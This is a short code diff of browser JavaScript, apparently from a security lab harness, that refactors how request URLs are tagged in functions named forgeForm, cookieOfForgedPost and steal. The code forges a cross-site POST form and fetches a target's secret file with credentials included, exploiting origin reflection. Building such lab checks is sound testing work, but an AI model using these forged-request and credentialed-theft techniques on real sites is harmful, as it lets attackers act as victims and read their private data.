@@ -5,7 +5,7 @@ function forgeForm(target) {
   return new Promise(resolve => {
     const form = document.createElement('form');
     form.method = 'POST';
-    form.action = `${target}/secret/secret.txt?forged=form&lab-run=${run}`;
+    form.action = tagged(`${target}/secret/secret.txt?forged=form`);
     form.target = 'sink';
     const field = document.createElement('input');
     field.name = 'transfer';
@@ -22,7 +22,7 @@ function forgeForm(target) {
 async function cookieOfForgedPost() {
   for (let attempt = 0; attempt < 20; attempt++) {
     try {
-      const response = await fetch('/requests', { cache: 'no-store' });
+      const response = await fetch(tagged('/requests'), { cache: 'no-store' });
       if (!response.ok) {
         return error(`no request log here (/requests answered ${response.status})`);
       }
@@ -41,7 +41,7 @@ async function cookieOfForgedPost() {
 
 async function steal(target) {
   try {
-    const response = await fetch(`${target}/secret/secret.txt?origin=%7BECHO%7D&creds=1&lab-run=${run}`, { credentials: 'include' });
+    const response = await fetch(tagged(`${target}/secret/secret.txt?origin=%7BECHO%7D&creds=1`), { credentials: 'include' });
     const text = (await response.text()).trim();
     return response.ok ? [read(text), text] : [error(`HTTP ${response.status}: no cookie reached the target`), null];
   } catch (e) {
